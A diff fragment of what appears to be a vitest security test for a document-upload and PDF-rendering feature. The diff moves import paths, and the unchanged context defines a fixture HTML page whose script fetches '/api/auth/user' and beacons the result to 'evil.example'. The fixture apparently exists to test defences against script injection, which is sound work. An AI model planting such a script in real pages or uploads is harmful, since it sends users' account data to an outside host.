@@ -1,11 +1,11 @@
 import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { documents } from '../db/schema.ts';
-import { renderPdf } from '../lib/pdf.ts';
-import { DEMO_USERS } from '../seed/demo.ts';
-import { sessionCookieFor } from '../test/sign-in.ts';
-import { createTestApp, type TestApp } from '../test/test-app.ts';
-import { multipartBody, staffTestContext } from '../test/staff-context.ts';
+import { documents } from '../../db/schema.ts';
+import { renderPdf } from '../../lib/pdf.ts';
+import { DEMO_USERS } from '../../seed/demo.ts';
+import { sessionCookieFor } from '../sign-in.ts';
+import { createTestApp, type TestApp } from '../test-app.ts';
+import { multipartBody, staffTestContext } from '../staff-context.ts';
 
 const SCRIPT_PAGE = Buffer.from(
   '<!doctype html><html><body><script>fetch("/api/auth/user").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></body></html>',
